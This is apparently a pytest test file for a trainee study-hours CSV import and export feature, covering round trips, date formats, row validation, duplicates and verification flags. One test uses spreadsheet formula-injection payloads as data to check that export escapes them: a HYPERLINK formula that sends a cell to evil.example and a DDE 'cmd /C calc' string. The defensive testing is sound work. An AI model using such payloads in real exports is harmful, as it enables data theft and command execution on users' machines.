import datetime as dt
from decimal import Decimal

import pytest

from trainer.study.hours import Code, EntryData
from trainer.study.hours_csv import (
    HoursCsvError,
    HoursImportRefused,
    export_csv,
    import_csv,
    parse_date,
    preview_import,
)
from trainer.study.trainees import TraineeService

TODAY = dt.date(2026, 11, 20)
HEADER = "date,hours,kind,domain,setting,activity,supervisor,notes"


@pytest.fixture
def trainees(db):
    return TraineeService(db.sessions)


def test_export_then_import_gives_identical_totals(service, trainees, tmp_path):
    ana = trainees.create("Ana", None)
    rows = [
        EntryData(dt.date(2026, 10, 1), "1.5", "training", "advocacy", "Online", "Ethics, part 1", None,
                  'Said "hello"; then left'),
        EntryData(dt.date(2026, 10, 1), "1.5", "training", "advocacy", "Online", "Ethics, part 1", None,
                  'Said "hello"; then left'),  # a real second identical session
        EntryData(dt.date(2026, 10, 2), "8", "experience", None, "Café Ñandú", "Drop-in", "Kim Lee",
                  "two\nlines"),
        EntryData(dt.date(2026, 10, 3), "0.75", "supervision", None, None, None, "Kim Lee", None),
        EntryData(dt.date(2026, 10, 4), "2.25", "training", "ethical-responsibility"),
    ]
    service.add_entries(ana.id, rows, today=TODAY)
    path = tmp_path / "hours.csv"
    assert export_csv(service, ana.id, path) == 5
    text = path.read_text(encoding="utf-8")
    assert text.splitlines()[0] == HEADER + ",verified,verified_by,verified_at"
    assert "2026-10-02,8,experience,,Café Ñandú,Drop-in,Kim Lee" in text

    bo = trainees.create("Bo", None)
    result = import_csv(service, bo.id, path, by="Bo", today=TODAY)
    assert (result.added, result.duplicates, result.skipped) == (5, 0, ())
    assert service.totals(bo.id) == service.totals(ana.id)
    key = [e.data() for e in service.list_entries(ana.id)]
    assert [e.data() for e in service.list_entries(bo.id)] == key
    assert [h.action for h in service.history(trainee_id=bo.id)] == ["add"] * 5


def test_bom_semicolons_and_us_dates_import(service, trainees):
    bo = trainees.create("Bo", None)
    data = ("\ufeff" + HEADER.replace(",", ";") + "\r\n"
            "03/31/2026;1,5;training;advocacy;Clinic;Group, peer-led;;\r\n"
            "\r\n"
            "4/1/2026;8;Experience;;Clinic;;Kim Lee;\r\n"
            "2026-04-02;0.25;supervision;;;;Kim Lee;\"a;b\"\r\n").encode("utf-8")
    result = import_csv(service, bo.id, data, today=TODAY)
    assert result.added == 3
    entries = service.list_entries(bo.id)
    assert [e.date for e in entries] == [dt.date(2026, 3, 31), dt.date(2026, 4, 1), dt.date(2026, 4, 2)]
    assert [e.hours for e in entries] == [Decimal("1.5"), 8, Decimal("0.25")]
    assert entries[0].activity == "Group, peer-led" and entries[1].kind == "experience"
    assert entries[2].notes == "a;b"


def test_three_bad_rows_import_nothing_and_are_named(service, trainees):
    bo = trainees.create("Bo", None)
    data = "\n".join([
        HEADER,
        "2026-01-05,2,training,advocacy,,,,",            # 2 good
        "2026-13-40,2,training,advocacy,,,,",            # 3 bad date
        "2026-01-06,3,experience,,,,,",                  # 4 good
        "2026-01-07,1.1,experience,,,,,",                # 5 not quarter hours
        "2026-01-08,2,training,,,,,",                    # 6 training without domain
        "2026-01-09,1,supervision,,,,,",                 # 7 good
    ]).encode()
    preview = preview_import(service, bo.id, data, today=TODAY)
    assert [r.line for r in preview.good] == [2, 4, 7]
    assert [b.line for b in preview.bad] == [3, 5, 6]
    assert [[p.code for p in b.problems] for b in preview.bad] == [
        [Code.CSV_BAD_DATE], [Code.HOURS_NOT_QUARTERS], [Code.DOMAIN_NEEDED]]
    assert preview.bad[0].problems[0].params == {"text": "2026-13-40"}
    with pytest.raises(HoursImportRefused) as caught:
        import_csv(service, bo.id, data, today=TODAY)
    assert caught.value.problem.code is Code.IMPORT_REFUSED
    assert caught.value.problem.params == {"count": 3, "lines": (3, 5, 6)} and len(caught.value.preview.bad) == 3
    assert service.list_entries(bo.id) == []
    result = import_csv(service, bo.id, data, skip_bad=True, today=TODAY)
    assert result.added == 3 and [b.line for b in result.skipped] == [3, 5, 6]


def test_importing_twice_adds_nothing_the_second_time(service, trainees):
    bo = trainees.create("Bo", None)
    data = (HEADER + "\n2026-02-01,1,experience,,Clinic,,,\n2026-02-01,1,experience,,Clinic,,,\n"
            "02/02/2026,2,training,advocacy,,,,\n").encode()
    assert import_csv(service, bo.id, data, today=TODAY).added == 3
    again = import_csv(service, bo.id, data, today=TODAY)
    assert (again.added, again.duplicates) == (0, 3)
    assert len(service.list_entries(bo.id)) == 3
    longer = data + b"2026-02-03,1,supervision,,,,,\n"
    assert import_csv(service, bo.id, longer, today=TODAY).added == 1


def test_import_checks_the_day_limit_against_existing_and_earlier_rows(service, trainees):
    bo = trainees.create("Bo", None)
    service.add_entry(bo.id, EntryData(dt.date(2026, 3, 1), 20, "experience"), today=TODAY)
    data = (HEADER + "\n2026-03-01,3,experience,,,,,\n2026-03-01,2,experience,,,,,\n"
            "2026-12-01,1,experience,,,,,\n").encode()
    preview = preview_import(service, bo.id, data, today=TODAY)
    assert [r.line for r in preview.good] == [2] and [b.line for b in preview.bad] == [3, 4]
    assert [b.problems[0].code for b in preview.bad] == [Code.DAY_OVER_24, Code.DATE_IN_FUTURE]


def test_whole_file_problems(service, trainees):
    bo = trainees.create("Bo", None)
    with pytest.raises(HoursCsvError) as caught:
        preview_import(service, bo.id, HEADER.encode() + b"\n2026-01-01,1,experience,,Caf\xe9,,,\n")
    assert caught.value.problem.code is Code.CSV_NOT_UTF8
    with pytest.raises(HoursCsvError) as caught:
        preview_import(service, bo.id, b"date,kind\n2026-01-01,experience\n")
    assert caught.value.problem.code is Code.CSV_COLUMNS_MISSING and caught.value.problem.params["missing"] == ("hours",)
    with pytest.raises(HoursCsvError) as caught:
        preview_import(service, bo.id, b"")
    assert caught.value.problem.code is Code.CSV_EMPTY
    preview = preview_import(service, bo.id, (HEADER + "\n2026-01-01,1,experience,,a,b,c,d,e\n").encode(),
                             today=TODAY)
    assert [b.line for b in preview.bad] == [2] and preview.bad[0].problems[0].code is Code.CSV_TOO_MANY_VALUES


@pytest.mark.parametrize("text, expected", [
    ("2026-03-31", dt.date(2026, 3, 31)), ("03/31/2026", dt.date(2026, 3, 31)), ("4/1/2026", dt.date(2026, 4, 1)),
    ("31/03/2026", None), ("2026-02-30", None), ("yesterday", None), ("", None),
])
def test_parse_date(text, expected):
    assert parse_date(text) == expected


def test_export_escapes_formulas_is_private_and_imports_back_exactly(service, trainees, tmp_path):
    ana = trainees.create("Ana", None)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A2)",
               "'=already quoted", "plain note"]
    for day, note in enumerate(hostile, start=1):
        service.add_entry(ana.id, EntryData(dt.date(2026, 10, day), 1, "experience", None,
                                            "=cmd|' /C calc'!A0", "@activity", None, note), today=TODAY)
    path = tmp_path / "hours.csv"
    assert export_csv(service, ana.id, path) == len(hostile)
    assert path.stat().st_mode & 0o777 == 0o600
    import csv as csv_module
    cells = [cell for row in csv_module.reader(path.open(encoding="utf-8", newline="")) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # nothing a spreadsheet would run
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in cells and "''=already quoted" in cells

    bo = trainees.create("Bo", None)
    import_csv(service, bo.id, path, by="Bo", today=TODAY)
    assert sorted(e.notes for e in service.list_entries(bo.id)) == sorted(hostile)
    assert {(e.setting, e.activity) for e in service.list_entries(bo.id)} == {
        ("=cmd|' /C calc'!A0", "@activity")}


def test_export_keeps_verification_but_importing_never_verifies(service, trainees, tmp_path):
    ana = trainees.create("Ana", None)
    service.add_entries(ana.id, [EntryData(dt.date(2026, 10, 1), "2", "experience"),
                                 EntryData(dt.date(2026, 10, 2), "3", "experience")], today=TODAY)
    first = min(service.list_entries(ana.id), key=lambda e: e.date)
    service.verify(first.id, "Maria Lopez")
    path = tmp_path / "hours.csv"
    export_csv(service, ana.id, path)
    lines = path.read_text(encoding="utf-8").splitlines()
    verified_day = service.list_entries(ana.id)
    stamp = next(e for e in verified_day if e.verified).verified_at
    assert f"2026-10-01,2,experience,,,,,,yes,Maria Lopez,{stamp:%Y-%m-%d}" in lines
    assert "2026-10-02,3,experience,,,,,,no,," in lines
    bo = trainees.create("Bo", None)
    result = import_csv(service, bo.id, path, by="Bo", today=TODAY)
    assert result.added == 2
    assert not any(e.verified for e in service.list_entries(bo.id))  # information, never a claim
